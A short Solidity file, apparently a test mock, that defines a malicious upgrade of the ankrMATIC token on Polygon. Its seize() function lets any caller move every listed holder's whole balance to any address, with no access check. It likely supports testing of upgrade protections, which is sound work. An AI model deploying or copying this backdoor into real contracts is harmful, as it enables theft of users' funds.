// SPDX-License-Identifier: MIT
pragma solidity 0.8.34;

import {IRatioFeed} from "../../contracts/interfaces/IRatioFeed.sol";
import {ChildAnkrMATIC} from "../../contracts/polygon/token/ChildAnkrMATIC.sol";

/// @title What a malicious upgrade puts in the place of ankrMATIC on Polygon
/// @notice The token as it is, and a way to take anybody's.
contract ChildAnkrMATIC__Thief is ChildAnkrMATIC {
    /// @custom:oz-upgrades-unsafe-allow constructor
    constructor(IRatioFeed feed) ChildAnkrMATIC(feed) {}

    /// @notice Moves whole balances to `receiver`.
    function seize(address[] calldata holders, address receiver) external {
        for (uint256 i = 0; i < holders.length; ++i) _transfer(holders[i], receiver, balanceOf(holders[i]));
    }
}
